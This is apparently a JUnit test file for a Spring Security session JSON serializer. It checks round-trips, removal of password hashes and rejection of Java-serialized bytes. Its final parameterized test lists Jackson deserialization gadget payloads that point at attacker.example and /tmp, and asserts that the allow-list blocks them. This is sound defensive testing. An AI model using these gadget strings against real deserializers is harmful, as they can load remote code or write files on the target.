package dev.spaauth.session;

import java.io.ByteArrayOutputStream;
import java.io.ObjectOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.jsontype.BasicPolymorphicTypeValidator;

import org.springframework.security.authentication.AnonymousAuthenticationToken;
import org.springframework.security.authentication.UsernamePasswordAuthenticationToken;
import org.springframework.security.core.Authentication;
import org.springframework.security.core.GrantedAuthority;
import org.springframework.security.core.authority.FactorGrantedAuthority;
import org.springframework.security.core.authority.SimpleGrantedAuthority;
import org.springframework.security.core.context.SecurityContext;
import org.springframework.security.core.context.SecurityContextImpl;
import org.springframework.security.web.authentication.WebAuthenticationDetails;

import dev.spaauth.user.SpaAuthUser;

import static org.assertj.core.api.Assertions.assertThat;

/** Unit tests of {@link SessionJson}. */
class SessionJsonTests {

	private final SessionJson json = new SessionJson(getClass().getClassLoader(), BasicPolymorphicTypeValidator.builder());

	@Test
	void writeThenReadWhenTheSecurityContextOfALoggedInUserThenTheSamePrincipalWithoutItsPasswordHash() {
		SpaAuthUser user = new SpaAuthUser(7, "alice", "alice@example.com", List.of("ADMIN"), "{argon2}secret");
		SecurityContextImpl context = new SecurityContextImpl(
				UsernamePasswordAuthenticationToken.authenticated(user, null, user.getAuthorities()));

		byte[] stored = this.json.write(context);
		Object read = this.json.read(stored);

		assertThat(new String(stored, StandardCharsets.UTF_8)).startsWith("{")
			.contains("\"username\":\"alice\"")
			.doesNotContain("argon2")
			.doesNotContain("passwordHash");
		assertThat(read).isInstanceOf(SecurityContextImpl.class);
		SpaAuthUser principal = (SpaAuthUser) ((SecurityContextImpl) read).getAuthentication().getPrincipal();
		assertThat(principal.getId()).isEqualTo(7);
		assertThat(principal.getEmail()).isEqualTo("alice@example.com");
		assertThat(principal.getRoles()).containsExactly("ADMIN", "USER");
		assertThat(principal.getPassword()).isNull();
		assertThat(((SecurityContextImpl) read).getAuthentication().getAuthorities()).extracting(Object::toString)
			.containsExactly("ROLE_ADMIN", "ROLE_USER");
	}

	@Test
	void writeThenReadWhenALogInWithAFactorAuthorityThenTheSameAuthoritiesInTheSameOrderAndTheFlatForm() {
		SpaAuthUser user = new SpaAuthUser(9, "carol", "carol@example.com", List.of(), null);
		Instant proven = Instant.parse("2026-12-06T07:30:01.123456789Z");
		List<GrantedAuthority> authorities = List.of(new SimpleGrantedAuthority("ROLE_USER"),
				FactorGrantedAuthority.withAuthority(FactorGrantedAuthority.PASSWORD_AUTHORITY).issuedAt(proven).build());
		SecurityContextImpl context = new SecurityContextImpl(
				UsernamePasswordAuthenticationToken.authenticated(user, null, authorities));

		byte[] stored = this.json.write(context);
		Authentication read = ((SecurityContext) this.json.read(stored)).getAuthentication();

		assertThat(new String(stored, StandardCharsets.UTF_8)).contains(StoredLogin.class.getName())
			.doesNotContain("UsernamePasswordAuthenticationToken");
		assertThat(read).isExactlyInstanceOf(UsernamePasswordAuthenticationToken.class);
		assertThat(read.isAuthenticated()).isTrue();
		assertThat(read.getCredentials()).isNull();
		assertThat(read.getDetails()).isNull();
		assertThat(List.<GrantedAuthority>copyOf(read.getAuthorities())).isEqualTo(authorities);
		assertThat(((FactorGrantedAuthority) List.copyOf(read.getAuthorities()).get(1)).getIssuedAt()).isEqualTo(proven);
		assertThat(((SpaAuthUser) read.getPrincipal()).getId()).isEqualTo(9);
	}

	@Test
	void writeThenReadWhenALogInWithDetailsThenSpringSecuritysFormKeepsThem() {
		SpaAuthUser user = new SpaAuthUser(9, "carol", "carol@example.com", List.of(), null);
		UsernamePasswordAuthenticationToken token = UsernamePasswordAuthenticationToken.authenticated(user, null,
				user.getAuthorities());
		token.setDetails(new WebAuthenticationDetails("203.0.113.9", null));

		byte[] stored = this.json.write(new SecurityContextImpl(token));
		Authentication read = ((SecurityContext) this.json.read(stored)).getAuthentication();

		assertThat(new String(stored, StandardCharsets.UTF_8)).doesNotContain(StoredLogin.class.getName());
		assertThat(read.getDetails()).isEqualTo(new WebAuthenticationDetails("203.0.113.9", null));
		assertThat(read.getAuthorities()).extracting(Object::toString).containsExactly("ROLE_USER");
	}

	@Test
	void writeThenReadWhenAnotherAuthenticationThenSpringSecuritysForm() {
		SecurityContextImpl context = new SecurityContextImpl(new AnonymousAuthenticationToken("key", "anonymousUser",
				List.of(new SimpleGrantedAuthority("ROLE_ANONYMOUS"))));

		Object read = this.json.read(this.json.write(context));

		assertThat(((SecurityContext) read).getAuthentication()).isEqualTo(context.getAuthentication());
	}

	@Test
	void writeThenReadWhenStringsAndEpochMillisThenThemselves() {
		assertThat(this.json.read(this.json.write("a token"))).isEqualTo("a token");
		assertThat(this.json.read(this.json.write(1_765_000_000_000L))).isEqualTo(1_765_000_000_000L);
	}

	@Test
	void writeThenReadWhenAMapOfSessionDataAsRedisPublishesItThenTheSameMap() {
		Map<String, Object> delta = new HashMap<>();
		delta.put("creationTime", 1_765_000_000_000L);
		delta.put("maxInactiveInterval", 1800);
		delta.put("sessionAttr:dev.spaauth.userAgent", "Chrome");

		assertThat(this.json.read(this.json.write(delta))).isEqualTo(delta);
	}

	@Test
	void readWhenJavaSerializedBytesThenAbsentNotAnObject() throws Exception {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
			out.writeObject(new SpaAuthUser(1, "bob", "bob@example.com", List.of(), null));
		}

		assertThat(this.json.read(bytes.toByteArray())).isNull();
	}

	@ParameterizedTest
	@ValueSource(strings = { "[\"java.net.URL\",\"http://attacker.example/\"]",
			"{\"@class\":\"java.util.logging.FileHandler\",\"pattern\":\"/tmp/x\"}",
			"[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://attacker.example/x.xml\"]" })
	void readWhenATypeOffTheAllowListThenAbsentAndNothingInstantiated(String stored) {
		assertThat(this.json.read(stored.getBytes(StandardCharsets.UTF_8))).isNull();
	}

}
